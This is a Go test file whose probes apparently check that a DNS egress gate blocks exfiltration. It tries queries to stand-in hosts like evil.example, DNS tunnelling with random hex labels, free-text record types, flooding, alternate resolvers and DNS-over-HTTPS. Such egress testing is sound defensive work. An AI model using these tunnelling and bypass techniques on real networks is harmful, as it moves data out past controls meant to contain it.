package main

import (
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"net"
	"strings"
	"time"

	"github.com/miekg/dns"
)

func init() {
	attempts["dns-unlisted"] = dnsUnlisted
	attempts["dns-tunnel"] = dnsTunnel
	attempts["dns-types"] = dnsTypes
	attempts["dns-closed-answers"] = dnsClosed
	attempts["dns-forged"] = named("dns-forged", "forged.wild.example")
	attempts["dns-flood"] = dnsFlood
	attempts["dns-elsewhere"] = dnsElsewhere
	attempts["dns-over-https"] = dnsOverHTTPS
}

// question puts one to a resolver.
func question(server, name string, qtype uint16) (*dns.Msg, error) {
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(name), qtype)
	c := &dns.Client{Timeout: patience}
	answer, _, err := c.Exchange(m, server)
	return answer, err
}

// dnsUnlisted carries something out in the name of a host that no rule is
// about.
func dnsUnlisted(*result) error {
	for _, name := range []string{"dns-unlisted.evil.example", "EVIL.example", "dns-unlisted.front.example"} {
		for _, t := range []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT} {
			_, _ = question(resolver, name, t)
		}
	}
	return works(front)
}

// dnsTunnel carries it out in names under a wildcard, none of which exist.
func dnsTunnel(*result) error {
	for i := range 150 {
		data := make([]byte, 15)
		if _, err := rand.Read(data); err != nil {
			return err
		}
		label := hex.EncodeToString(data)
		name := label + ".tunnel.example"
		if i%3 == 0 {
			name = strings.Repeat(label+label+".", 3) + "tunnel.example"
		}
		if _, err := question(resolver, name, dns.TypeA); err != nil {
			return err
		}
	}
	return nil
}

// dnsTypes asks for what holds free text.
func dnsTypes(*result) error {
	for _, t := range []uint16{dns.TypeTXT, dns.TypeNULL, dns.TypeMX, dns.TypeSRV, dns.TypeCNAME, dns.TypeHTTPS, dns.TypeANY} {
		_, _ = question(resolver, "dns-types.wild.example", t)
	}
	return works(front)
}

// dnsClosed wants to be told a private address.
func dnsClosed(r *result) error {
	for _, name := range []string{"private.wild.example", "both.wild.example", "cname.wild.example", "mapped.wild.example", "meta.wild.example"} {
		for _, t := range []uint16{dns.TypeA, dns.TypeAAAA} {
			m, err := question(resolver, name, t)
			if err != nil {
				return err
			}
			for _, rr := range m.Answer {
				if text := rr.String(); strings.Contains(text, "10.77.0.1") || strings.Contains(text, "169.254.") {
					r.Found = text
				}
			}
		}
	}
	return nil
}

// dnsFlood asks more often than a minute's worth.
func dnsFlood(r *result) error {
	const aMinute = 600
	answered, began := 0, time.Now()
	for range 750 {
		m, err := question(resolver, front, dns.TypeA)
		if err != nil {
			return err
		}
		if m.Rcode == dns.RcodeSuccess && len(m.Answer) > 0 {
			answered++
		}
	}
	// Each second gives some back, and the gate's clock is read later than this one.
	most := aMinute + 20 + int(time.Since(began).Seconds()*aMinute/60)
	switch {
	case answered == 0:
		return fmt.Errorf("no question is answered")
	case answered > most:
		r.Found = fmt.Sprintf("%d questions were answered", answered)
	}
	return nil
}

// dnsElsewhere goes to other resolvers, by each of the ways there are: past
// the gate no name is too much.
func dnsElsewhere(*result) error {
	if err := works(front); err != nil {
		return err
	}
	if _, err := question(resolver, "ns.public.example", dns.TypeA); err != nil {
		return err
	}
	for _, server := range []string{"ns.public.example:53", worldDNS} {
		_, _ = question(server, "dns-elsewhere.evil.example", dns.TypeA)
		m := new(dns.Msg)
		m.SetQuestion("dns-elsewhere.evil.example.", dns.TypeA)
		c := &dns.Client{Net: "tcp", Timeout: patience}
		_, _, _ = c.Exchange(m, server)
	}
	for _, address := range []string{"ns.public.example:853", outside + ":853"} {
		if c, err := net.DialTimeout("tcp", address, patience); err == nil {
			_, _ = c.Write([]byte("dns-elsewhere\n"))
			_ = c.SetDeadline(time.Now().Add(patience))
			_, _ = c.Read(make([]byte, 1))
			c.Close()
		}
	}
	for _, address := range []string{"ns.public.example:443", outside + ":443"} {
		if c, err := net.Dial("udp", address); err == nil {
			_, _ = c.Write([]byte("dns-elsewhere\n"))
			c.Close()
		}
	}
	return nil
}

// dnsOverHTTPS asks resolvers whose names are well known.
func dnsOverHTTPS(*result) error {
	_, _ = ask("dns.google:443", "dns.google", get("dns.google", "/dns-over-https"))
	_, _ = ask(front+":443", "dns.google", get("dns.google", "/dns-over-https"))
	return works(front)
}
